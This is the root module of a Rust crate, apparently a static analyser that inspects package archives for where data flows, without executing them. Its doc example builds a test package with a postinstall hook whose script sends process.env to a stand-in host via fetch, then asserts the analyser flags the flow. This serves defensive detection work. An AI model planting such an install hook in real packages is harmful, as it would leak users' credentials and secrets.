//! What the code of an artifact can do.
//!
//! Bytes in, values out: no clock, no network, no disk, nothing of a package is run.
//! Unpacking ([`unpack`]) gives a tree; a `package` knows which file means which; each
//! language is lowered to one form (`ir`); the pure machine (`pure`) computes what a
//! program would compute from its own constants; `flow` says from where to where data
//! goes, and when (`zone`). What a path of it stands on is written down by [`certify`] and looked
//! up by [`check`], which knows nothing of all this. With the feature `yara` the user's own YARA rules are asked
//! about the same tree (`OwnRules`).
//!
//! ```
//! use customs_inspect::{Content, Entry, Kind, Tree, inspect_tree};
//! let file = |path: &str, text: &str| Entry {
//!     path: path.to_owned(),
//!     content: Content::Whole(text.as_bytes().into()),
//!     length: text.len() as u64,
//!     kind: Kind::Text,
//!     executable: false,
//! };
//! let tree = Tree {
//!     entries: vec![
//!         file("package/package.json", r#"{"scripts": {"postinstall": "node a.js"}}"#),
//!         file("package/a.js", "fetch('https://collect.invalid', {body: JSON.stringify(process.env)})"),
//!     ],
//!     ..Tree::default()
//! };
//! let inspection = inspect_tree(&tree);
//! assert_eq!(inspection.flows[0].source_name, "process.env");
//! ```

mod cargo;
mod content;
mod density;
mod engine;
mod evidence;
mod flow;
mod ir;
mod js;
mod know;
mod layout;
mod limit;
mod lost;
mod native;
mod nesting;
#[cfg(feature = "yara")]
mod own;
mod owner;
mod package;
#[cfg(test)]
mod properties;
mod pure;
mod python;
mod record;
mod rust;
mod shared;
mod shell;
mod text;
mod unpack;
mod zone;

pub use engine::{ENGINE_VERSION, Reader, inspect_archive, inspect_tree};
pub use evidence::{Broken, Checked, Checker, Mismatch, certify, certify_all, check};
pub use limit::Unpacking;
#[cfg(feature = "yara")]
pub use own::{OwnRules, OwnRulesError};
pub use shared::Reused;
pub use unpack::{
    Content, Entry, Gather, Kind, Opener, Tree, Trick, Unread, kind_of, unpack, unpack_file,
    unpack_file_for,
};
